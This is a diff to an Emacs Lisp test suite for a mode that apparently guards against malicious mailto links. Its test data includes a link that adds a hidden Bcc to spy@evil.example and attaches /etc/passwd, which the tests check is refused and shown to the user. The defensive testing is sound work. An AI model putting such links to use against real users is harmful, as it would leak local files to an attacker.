@@ -3,8 +3,6 @@
 
 ;;; Commentary:
 
-;; emacs -Q --batch -L (the folder of the module) -L src/emacs -l tests/emacs/postern-test.el -f ert-run-tests-batch-and-exit
-;;
 ;; tests/embeds sends what Emacs composes from many links; these tests are about each way in, and about the mode.
 
 ;;; Code:
@@ -29,7 +27,8 @@
               (buffer-list)))
 
 (defmacro postern-test-with (answer &rest body)
-  "Run BODY with the mode on; ANSWER is what the user says, or `none' where nobody may ask."
+  "Run BODY with the mode on.
+ANSWER is what the user says, or `none' where nobody may ask."
   (declare (indent 1))
   `(cl-letf (((symbol-function 'yes-or-no-p)
               (lambda (_)
@@ -97,19 +96,17 @@
         (should (string-match-p "^Bcc: spy@evil.example$" (postern-test-draft)))))))
 
 (ert-deftest postern-test-question ()
-  "The question says why, shows all that is composed, and needs a whole word for an answer."
-  (let (shown)
-    (cl-letf (((symbol-function 'postern-test-answer)
-               (lambda ()
-                 (should-not use-short-answers)
-                 (should-not use-dialog-box)
-                 (setq shown (with-current-buffer "*Postern*" (buffer-string)))
-                 nil)))
-      (let ((use-short-answers t)
-            (use-dialog-box t))
-        (postern-test-with (postern-test-answer)
-          (should-error (browse-url-mail (concat postern-test-bcc "&attach=/etc/passwd&body=a%09b"))
-                        :type 'user-error))))
+  "The question says why, shows what is composed, and takes only a whole word."
+  (let ((use-short-answers t)
+        (use-dialog-box t)
+        shown settings)
+    (postern-test-with (progn
+                         (setq settings (list use-short-answers use-dialog-box)
+                               shown (with-current-buffer "*Postern*" (buffer-string)))
+                         nil)
+      (should-error (browse-url-mail (concat postern-test-bcc "&attach=/etc/passwd&body=a%09b"))
+                    :type 'user-error))
+    (should (equal settings '(nil nil)))
     (should (string-match-p "^bcc +spy@evil.example   (a hidden recipient)$" shown))
     (should (string-match-p "^Why you are asked:\n- The link adds hidden recipients" shown))
     (should (string-match-p "^Left out:\n- The link names a local file to attach" shown))
@@ -152,7 +149,7 @@
           (should (string-match-p (format "^%s$" (regexp-quote line)) draft)))))))
 
 (ert-deftest postern-test-command-line ()
-  "As a desktop starts it: emacs -f message-mailto LINK."
+  "The link can come from the command line, as a desktop gives it."
   (postern-test-with 'none
     (let ((command-line-args-left (list postern-test-attack "next")))
       (should-error (message-mailto) :type 'user-error)
@@ -184,6 +181,22 @@
       (should (advice-member-p (alist-get function postern--advice) function)))
     (postern-mode -1)
     (should (equal (mapcar #'symbol-function functions) before))))
+
+(ert-deftest postern-test-manual ()
+  "The example in the manual works as it stands there."
+  (let ((load-path load-path)
+        example)
+    (with-temp-buffer
+      (insert-file-contents (expand-file-name "docs/emacs.md" (getenv "POSTERN_SOURCE")))
+      (search-forward "```elisp\n")
+      (setq example (buffer-substring (point) (progn (search-forward "\n```") (match-beginning 0)))))
+    (unwind-protect
+        (progn
+          (eval (car (read-from-string (format "(progn %s)" example))) t)
+          (should postern-mode)
+          (should (equal postern-profile 'standard))
+          (should-error (browse-url postern-test-attack) :type 'user-error))
+      (postern-mode -1))))
 
 (ert-deftest postern-test-module ()
   "The module's own answers."
